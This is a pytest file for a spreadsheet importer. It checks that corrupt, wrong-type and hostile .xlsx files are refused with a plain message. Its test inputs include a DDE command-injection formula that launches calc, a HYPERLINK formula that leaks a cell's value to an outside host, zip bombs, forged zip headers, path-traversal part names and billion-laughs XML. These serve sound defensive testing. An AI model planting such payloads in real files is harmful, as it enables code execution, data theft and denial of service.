"""A file that is no workbook, or a hostile one, is refused at once with a sentence that says what to do."""

import os
import resource
import struct
import time
import tracemalloc
import zipfile

import pytest

from dhealth.exchange.workbooks.reading import read_workbook
from dhealth.exchange.workbooks.safety import MAX_PARTS, MB
from dhealth.exchange.workbooks.tests.books import NAMESPACE, PACKAGE, RELATIONSHIPS, agreed, pack, parts, write
from dhealth.kernel.errors import Refused

pytestmark = pytest.mark.covers("CLI-05")
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
GOOD_ROW = '<row r="1"><c r="A1"><v>1</v></c></row>'


def seconds_worked() -> float:
    """By the program and the child it waited for; the clock on the wall also counts what others do."""
    child = resource.getrusage(resource.RUSAGE_CHILDREN)
    return time.process_time() + child.ru_utime + child.ru_stime


def refusal(path) -> str:
    """The sentence; and it came within 5 s, without the program itself growing by 150 MB."""
    before, started = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, seconds_worked()
    with pytest.raises(Refused) as refused:
        read_workbook(path)
    assert seconds_worked() - started < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 150 * 1024
    return refused.value.message


@pytest.fixture(autouse=True)
def _in_english(settings):
    settings.LANGUAGE_CODE = "en"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "The file is empty"),
        (b"%PDF-1.7\n1 0 obj", "This is a PDF. Save the workbook as .xlsx in Excel."),
        ("Mã KH,Họ tên\nGB1,Ngô Minh Phong\n".encode(), "text file (.csv)"),
        ("Mã KH\tHọ tên\n".encode("utf-16"), "text file (.csv)"),
        (b"\xef\xbb\xbf<html><table><tr><td>GB1", "web page"),
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', "(.xls)"),
        (b"\x89PNG\r\n\x1a\n", "picture"),
        (b"Rar!\x1a\x07", "packed folder"),
        (COMPOUND + "EncryptedPackage".encode("utf-16-le"), "opened with a password"),
        (COMPOUND + "Workbook".encode("utf-16-le"), "old Excel workbook (.xls)"),
        (COMPOUND + "WordDocument".encode("utf-16-le"), "Word document"),
        (bytes(range(7)) * 400, "This is not a workbook"),
        (b"PK\x03\x04" + bytes(range(256)) * 40, "cut short"),
    ],
)
def test_another_kind_of_file_is_called_by_its_name(tmp_path, content, said):
    path = tmp_path / "so.xlsx"
    path.write_bytes(content)
    assert said in refusal(path)


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("content.xml", "LibreOffice"),
        ("word/document.xml", "Word"),
        ("xl/workbook.bin", ".xlsb"),
        ("so.xlsx", "Unpack"),
        ("anh.txt", "not a workbook"),
    ],
)
def test_a_zip_that_holds_no_workbook_is_called_by_its_name(tmp_path, name, said):
    assert said in refusal(pack(tmp_path / "so.xlsx", {name: "x"}))


def test_a_file_that_is_not_there_is_said_to_be_missing(tmp_path):
    assert "no such file" in refusal(tmp_path / "so.xlsx")


def test_random_bytes_are_never_a_traceback(tmp_path):
    for start in (b"", b"PK\x03\x04", b"PK\x05\x06", COMPOUND):
        path = tmp_path / "so.xlsx"
        path.write_bytes(start + os.urandom(20_000))
        assert refusal(path)


@pytest.mark.parametrize("share", [0.1, 0.5, 0.99])
def test_a_workbook_cut_short_is_to_be_copied_again(tmp_path, share):
    path = write(tmp_path / "so.xlsx", agreed("clients", [{"code": "GB1"}]))
    path.write_bytes(path.read_bytes()[: int(path.stat().st_size * share)])
    assert "cut short" in refusal(path)


def test_a_workbook_with_a_broken_part_is_damaged(tmp_path):
    path = write(tmp_path / "so.xlsx", agreed("clients", [{"code": "GB1"}]))
    content = bytearray(path.read_bytes())
    content[400:420] = os.urandom(20)
    path.write_bytes(content)
    assert "damaged" in refusal(path)


def test_a_workbook_cut_short_inside_is_damaged(tmp_path):
    for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"):
        assert "damaged" in refusal(pack(tmp_path / "so.xlsx", parts(**{part: "<a><b></a"})))


def test_a_zip_bomb_is_stopped_while_it_unpacks(tmp_path):
    bomb = parts(sheet=" " * (150 * MB))
    assert "too big" in refusal(pack(tmp_path / "so.xlsx", bomb))


def test_a_workbook_that_claims_ten_gigabytes_is_too_big(tmp_path):
    path = pack(tmp_path / "so.xlsx", parts(GOOD_ROW))
    content = path.read_bytes()
    at = content.rfind(b"PK\x01\x02")
    path.write_bytes(content[: at + 24] + struct.pack("<I", 0xFFFFFFF0) + content[at + 28 :])
    assert "too big" in refusal(path)


def test_a_part_that_hides_its_size_is_counted_while_it_unpacks(tmp_path):
    path = pack(tmp_path / "so.xlsx", parts(" " * (150 * MB)))
    content = path.read_bytes()
    at = content.rfind(b"PK\x01\x02")
    path.write_bytes(content[: at + 24] + struct.pack("<I", 1000) + content[at + 28 :])
    assert "too big" in refusal(path)


def test_a_file_of_more_than_30_mb_is_not_even_opened(tmp_path):
    path = tmp_path / "so.xlsx"
    with path.open("wb") as file:
        file.write(b"PK\x03\x04")
        file.truncate(30 * MB + 1)
    assert "30 MB" in refusal(path)


def test_a_hundred_parts_pass_and_one_more_does_not(tmp_path):
    contents = parts(GOOD_ROW)
    contents |= {f"docProps/{number}.xml": "<a/>" for number in range(MAX_PARTS - len(contents))}
    assert read_workbook(pack(tmp_path / "so.xlsx", contents)).sheets
    assert "too many parts" in refusal(pack(tmp_path / "so.xlsx", {**contents, "one/more.xml": "<a/>"}))


def test_a_list_of_a_million_parts_never_comes_into_memory(tmp_path):
    path = tmp_path / "so.xlsx"
    entry = b"PK\x01\x02" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"a"
    size = len(entry) * 500_000
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, size, 0, 0)
    path.write_bytes(entry * 500_000 + end)
    tracemalloc.start()
    assert "too many parts" in refusal(path)
    assert tracemalloc.get_traced_memory()[1] < 2 * MB
    tracemalloc.stop()


@pytest.mark.parametrize("name", ["../../tmp/x.xml", "/etc/x.xml", "xl\\x.xml", "c:/x.xml", "x" * 300])
def test_a_part_with_an_odd_name_refuses_the_workbook(tmp_path, name):
    assert "never does" in refusal(pack(tmp_path / "so.xlsx", parts(GOOD_ROW, **{name: "x"})))


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", ["xl/workbook.xml", "XL/Workbook.xml"])
def test_two_parts_of_one_name_refuse_the_workbook(tmp_path, name):
    path = pack(tmp_path / "so.xlsx", parts(GOOD_ROW))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, "<other/>")
    assert "never does" in refusal(path)


def test_a_way_of_packing_that_may_eat_memory_is_refused(tmp_path):
    path = pack(tmp_path / "so.xlsx", parts(GOOD_ROW))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("xl/x.xml", "<other/>")
    assert "never does" in refusal(path)


def test_a_zip_with_a_password_says_so(tmp_path):
    path = pack(tmp_path / "so.xlsx", parts(GOOD_ROW))
    content = bytearray(path.read_bytes())
    content[content.rfind(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(content)
    assert "opened with a password" in refusal(path)


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "docProps/core.xml"])
def test_a_billion_laughs_are_not_laughed(tmp_path, part):
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>'
    assert "never writes" in refusal(pack(tmp_path / "so.xlsx", parts(**{part: laughs})))
    assert "damaged" in refusal(pack(tmp_path / "so.xlsx", parts(**{part: laughs.encode("utf-16")})))


@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/macrosheets/sheet1.xml"])
def test_macros_are_refused_by_the_part(tmp_path, part):
    assert "macros" in refusal(pack(tmp_path / "so.xlsx", parts(GOOD_ROW, **{part: "x"})))


def test_macros_are_refused_by_the_type_of_the_workbook(tmp_path):
    types = '<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
    assert "macros" in refusal(pack(tmp_path / "so.xlsx", parts(GOOD_ROW, **{"[Content_Types].xml": types})))


def test_links_to_other_files_are_refused(tmp_path):
    link = parts(GOOD_ROW, **{"xl/externalLinks/externalLink1.xml": "<externalLink/>"})
    assert "linked" in refusal(pack(tmp_path / "so.xlsx", link))


@pytest.mark.parametrize(("kind", "refused"), [("oleObject", True), ("hyperlink", False)])
def test_an_address_to_click_passes_and_any_other_way_outside_does_not(tmp_path, kind, refused):
    rels = (
        f'<Relationships {PACKAGE}><Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}"'
        ' Target="https://zalo.me/nhom" TargetMode="External"/></Relationships>'
    )
    path = pack(tmp_path / "so.xlsx", parts(GOOD_ROW, **{"xl/worksheets/_rels/sheet1.xml.rels": rels}))
    if refused:
        assert "linked" in refusal(path)
    else:
        assert read_workbook(path).sheets["KHACH_HANG"].row(1) == [1]


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A1",
        "HYPERLINK(&quot;http://x.example/&quot;&amp;A1,&quot;mở&quot;)",
        "WEBSERVICE(A1)",
        "[1]Sheet1!A1",
        "_xlfn.IMAGE (A1)",
        "cmd&#124;'/c calc'!A1",
    ],
)
def test_a_formula_that_reaches_outside_is_refused_by_its_cell(tmp_path, formula):
    row = f'<row r="7"><c r="B7" t="str"><f>{formula}</f><v>x</v></c></row>'
    assert "Sheet KHACH_HANG, cell B7" in refusal(pack(tmp_path / "so.xlsx", parts(row)))


@pytest.mark.parametrize("value", ["", "<v/>", "<v></v>", "<v />"])
def test_a_formula_without_a_value_is_refused_rather_than_read_as_empty(tmp_path, value):
    path = pack(tmp_path / "so.xlsx", parts(f'<row r="2"><c r="C2"><f>1+1</f>{value}</c></row>'))
    assert "cell C2" in refusal(path)


def test_a_formula_is_found_where_two_pieces_of_a_part_meet(tmp_path):
    padding = f"<!--{'x' * (256 * 1024 - 130)}-->"
    for shift in range(0, 90, 9):
        row = padding + " " * shift + '<row r="2"><c r="C2"><f>RTD(A1)</f><v>5</v></c></row>'
        assert "C2" in refusal(pack(tmp_path / "so.xlsx", parts(row)))


def test_a_formula_is_read_as_the_value_that_excel_stored(tmp_path):
    row = '<row r="2"><c r="A2"><f>SUM(B1:B9)</f><v>5</v></c><c r="B2" t="str"><f>""</f><v></v></c></row>'
    book = read_workbook(pack(tmp_path / "so.xlsx", parts(row)))
    assert book.sheets["KHACH_HANG"].row(2)[0] == 5


@pytest.mark.parametrize("opening", ['<c r="A1"><f>', "<c ", "<f ", "<c><f></f>" + " " * 4000, "<c><f></f><v "])
def test_a_part_made_to_slow_the_search_is_given_up(tmp_path, opening):
    sheet = f"<worksheet {NAMESPACE}><sheetData>" + opening * (19 * MB // len(opening))
    assert refusal(pack(tmp_path / "so.xlsx", parts(**{"xl/worksheets/sheet1.xml": sheet})))
